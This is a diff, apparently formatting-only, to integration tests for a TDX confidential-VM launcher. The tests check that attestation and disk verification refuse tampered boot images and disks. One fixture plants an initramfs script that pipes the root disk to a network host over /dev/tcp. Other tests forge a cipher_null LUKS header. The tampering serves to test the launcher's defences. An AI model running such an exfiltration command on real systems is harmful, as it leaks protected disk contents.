@@ -18,10 +18,10 @@ import libvirt
 import pytest
 from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
 
-from tdxvm.emulate import EmulatedPlatform
 from tdxvm.attest import TrustAnchor
-from tdxvm.launch.errors import LaunchError
+from tdxvm.emulate import EmulatedPlatform
 from tdxvm.launch.console import serial_log_tail
+from tdxvm.launch.errors import LaunchError
 from tdxvm.launch.lifecycle import destroy, status
 from tdxvm.launch.manifest import load_manifest
 from tdxvm.launch.records import VmRecords
@@ -51,8 +51,16 @@ def vm_name(conn):
 
 
 def _spec(name: str, manifest_path: Path, **policy) -> VmSpec:
-    return VmSpec(name=name, uri=URI, image=manifest_path, backend="emulated", vcpus=1, memory=1024, scratch=256,
-                  policy=policy or None)  # fmt: skip
+    return VmSpec(
+        name=name,
+        uri=URI,
+        image=manifest_path,
+        backend="emulated",
+        vcpus=1,
+        memory=1024,
+        scratch=256,
+        policy=policy or None,
+    )
 
 
 def _launch(conn, spec, trust, store, events=None):
@@ -60,8 +68,14 @@ def _launch(conn, spec, trust, store, events=None):
     TCG, never with TDX): anything else fails the test the first time."""
     for attempt in (1, 2):
         try:
-            return bringup.bring_up(spec, load_manifest(spec.image), conn, trust=trust, secrets=store,
-                                    progress=(events.append if events is not None else bringup._quiet))  # fmt: skip
+            return bringup.bring_up(
+                spec,
+                load_manifest(spec.image),
+                conn,
+                trust=trust,
+                secrets=store,
+                progress=(events.append if events is not None else bringup._quiet),
+            )
         except bringup.BringUpError as exc:
             if attempt == 2 or "Kernel panic" not in exc.serial_tail:
                 raise
@@ -118,15 +132,18 @@ def test_launch_attest_unlock_ssh_reattest_destroy(conn, trust, smoke_build, vm_
     assert set(result.timings) == set(bringup.PHASES)
     # the booted system runs from the verified root (dm-verity on dm-crypt, read-only) under a
     # tmpfs overlay, and SSH accepts only the attested key
-    client = ssh.connect(result.ssh, host_key=base64.b64decode(result.ssh_host_key),
-                         client_key=controller_key(store))  # fmt: skip
+    client = ssh.connect(result.ssh, host_key=base64.b64decode(result.ssh_host_key), client_key=controller_key(store))
     with client:
         assert ssh.run(client, "findmnt -no FSTYPE /").strip() == "overlay"
         lower = ssh.run(client, "findmnt -no SOURCE,OPTIONS /run/tdxvm/root-ro").split()
         assert lower[0] == "/dev/mapper/root" and "ro" in lower[1].split(",")
         verity = ssh.run(client, "dmsetup table root").split()
         v = smoke_build.manifest["verity"]
-        assert verity[2] == "verity" and verity[11] == v["root_hash"] and verity[13:] == ["2", "panic_on_corruption", "try_verify_in_tasklet"]
+        assert (
+            verity[2] == "verity"
+            and verity[11] == v["root_hash"]
+            and verity[13:] == ["2", "panic_on_corruption", "try_verify_in_tasklet"]
+        )
         assert ssh.run(client, "dmsetup table root-crypt").split()[2:4] == ["crypt", "aes-xts-plain64"]
         assert "Read-only file system" in ssh.run(client, "touch /run/tdxvm/root-ro/x 2>&1 || true")
         # the scratch disk: LUKS2 with integrity (authenticated aes-xts + HMAC) under a key drawn in the TD,
@@ -134,7 +151,9 @@ def test_launch_attest_unlock_ssh_reattest_destroy(conn, trust, smoke_build, vm_
         ssh.run(client, "systemctl start tdxvm-scratch.service", timeout=600)
         assert ssh.run(client, "findmnt -no SOURCE /var/lib/tdxvm").strip() == "/dev/mapper/tdxvm-scratch"
         scratch = ssh.run(client, "dmsetup table --showkeys tdxvm-scratch").split()
-        assert scratch[2:4] == ["crypt", "capi:authenc(hmac(sha256),xts(aes))-random"] and "integrity:48:aead" in scratch
+        assert (
+            scratch[2:4] == ["crypt", "capi:authenc(hmac(sha256),xts(aes))-random"] and "integrity:48:aead" in scratch
+        )
         assert ssh.run(client, "dmsetup table tdxvm-scratch_dif").split()[2] == "integrity"
         scratch_key = bytes.fromhex(scratch[4])
         ssh.run(client, "head -c 1048576 /dev/urandom > /var/lib/tdxvm/written && sync")
@@ -144,8 +163,13 @@ def test_launch_attest_unlock_ssh_reattest_destroy(conn, trust, smoke_build, vm_
     xml = conn.lookupByName(vm_name).XMLDesc(0)
     assert "scratch.img" in xml and scratch[4] not in xml
     forms = (scratch_key, scratch_key.hex().encode(), base64.b64encode(scratch_key))
-    for root in (Path("/var/lib/tdxvm/pool"), Path("/var/log/libvirt"), Path("/run/libvirt"), Path("/etc/libvirt"),
-                 smoke_build.secrets):  # fmt: skip
+    for root in (
+        Path("/var/lib/tdxvm/pool"),
+        Path("/var/log/libvirt"),
+        Path("/run/libvirt"),
+        Path("/etc/libvirt"),
+        smoke_build.secrets,
+    ):
         for path in (p for p in root.rglob("*") if p.is_file() and not p.is_symlink()):
             with open(path, "rb") as f:
                 prev = b""
@@ -186,8 +210,9 @@ def test_initramfs_modified_after_the_build_is_refused(conn, trust, smoke_build,
     extra = tmp_path / "extra"
     (extra / "scripts").mkdir(parents=True)
     (extra / "scripts/evil").write_text("#!/bin/sh\ncat /dev/mapper/root > /dev/tcp/host\n")
-    cpio = subprocess.run("find . | cpio -o -H newc --quiet | gzip -n", shell=True, cwd=extra, capture_output=True,
-                          check=True).stdout  # fmt: skip
+    cpio = subprocess.run(
+        "find . | cpio -o -H newc --quiet | gzip -n", shell=True, cwd=extra, capture_output=True, check=True
+    ).stdout
     with open(folder / "initrd.img", "ab") as f:
         f.write(cpio)
     manifest = json.loads((folder / "manifest.json").read_text())
@@ -197,7 +222,9 @@ def test_initramfs_modified_after_the_build_is_refused(conn, trust, smoke_build,
     store = SecretStore(directory=smoke_build.secrets)
     with pytest.raises(handshake.AttestationRefused) as refused:
         _launch(conn, _spec(vm_name, folder / "manifest.json"), trust, store)
-    assert [(r.code, r.message.split(" is ")[0]) for r in refused.value.reasons] == [("measurement-mismatch", "quote field RTMR2")]
+    assert [(r.code, r.message.split(" is ")[0]) for r in refused.value.reasons] == [
+        ("measurement-mismatch", "quote field RTMR2")
+    ]
     _never_unlocked(conn, vm_name)
 
 
@@ -229,7 +256,9 @@ def test_a_machine_the_host_changed_after_definition_is_refused(conn, trust, smo
     with pytest.raises(handshake.AttestationRefused) as refused:
         _launch(conn, _spec(vm_name, smoke_build.folder / "manifest.json"), trust, store, events)
     assert "RTMR0 pinned" in [e.detail for e in events if e.phase == "define" and e.status == "done"][0]
-    assert [(r.code, r.message.split(" is ")[0]) for r in refused.value.reasons] == [("measurement-mismatch", "quote field RTMR0")]
+    assert [(r.code, r.message.split(" is ")[0]) for r in refused.value.reasons] == [
+        ("measurement-mismatch", "quote field RTMR0")
+    ]
     _never_unlocked(conn, vm_name)
 
 
@@ -272,6 +301,7 @@ def _flip_a_byte(build):
             byte = f.read(1)[0]
             f.seek(16 << 20 | 1080)
             f.write(bytes([byte ^ 1]))
+
     return disk
 
 
@@ -282,11 +312,14 @@ def _host_built(build, work: Path, *, forged: bool):
         if forged:
             key = hostdisks.forge_cipher_null(payload, path, uuid=uuid)
             assert hostdisks.opens_with_any_passphrase(path, key)  # what a header-trusting initramfs would map
-            dump = subprocess.run(["cryptsetup", "luksDump", str(path)], capture_output=True, text=True, check=True).stdout
+            dump = subprocess.run(
+                ["cryptsetup", "luksDump", str(path)], capture_output=True, text=True, check=True
+            ).stdout
             assert "cipher_null-ecb" in dump and uuid in dump
         else:
             hostdisks.host_built_disk(payload, path, uuid=uuid)
         payload.unlink()
+
     return disk
 
 
@@ -299,9 +332,11 @@ def test_a_disk_that_is_not_the_built_one_is_refused_in_the_td(conn, trust, smok
     released key (never the header), and the first block fails verity against the
     measured root hash: it powers off before any system exists, with a message on the
     console; nothing of the host's root ever runs."""
-    disk = {"flipped-byte": _flip_a_byte(smoke_build),
-            "host-built-rootfs": _host_built(smoke_build, tmp_path, forged=False),
-            "forged-cipher-null-header": _host_built(smoke_build, tmp_path, forged=True)}[attack]  # fmt: skip
+    disk = {
+        "flipped-byte": _flip_a_byte(smoke_build),
+        "host-built-rootfs": _host_built(smoke_build, tmp_path, forged=False),
+        "forged-cipher-null-header": _host_built(smoke_build, tmp_path, forged=True),
+    }[attack]
     manifest = _tampered(smoke_build, tmp_path / "tampered", disk)
     store = SecretStore(directory=smoke_build.secrets)
     events: list = []
@@ -311,8 +346,10 @@ def test_a_disk_that_is_not_the_built_one_is_refused_in_the_td(conn, trust, smok
     assert [e.phase for e in events if e.status == "done"] == ["define", "boot", "quote", "verify", "unlock"]
     tail = serial_log_tail(conn, vm_name, lines=400)
     root_hash = smoke_build.manifest["verity"]["root_hash"]
-    assert ("tdxvm-rootdisk: refusing the root filesystem: the disk is not the root filesystem the measured command "
-            f"line names (its first block does not verify against root hash {root_hash}") in tail  # fmt: skip
+    assert (
+        "tdxvm-rootdisk: refusing the root filesystem: the disk is not the root filesystem the measured command "
+        f"line names (its first block does not verify against root hash {root_hash}"
+    ) in tail
     assert "tdxvm: the root filesystem was not opened; powering off" in tail
     assert hostdisks.MOTD.decode().strip() not in tail and "Welcome to" not in tail  # no system booted
     assert not conn.lookupByName(vm_name).isActive()
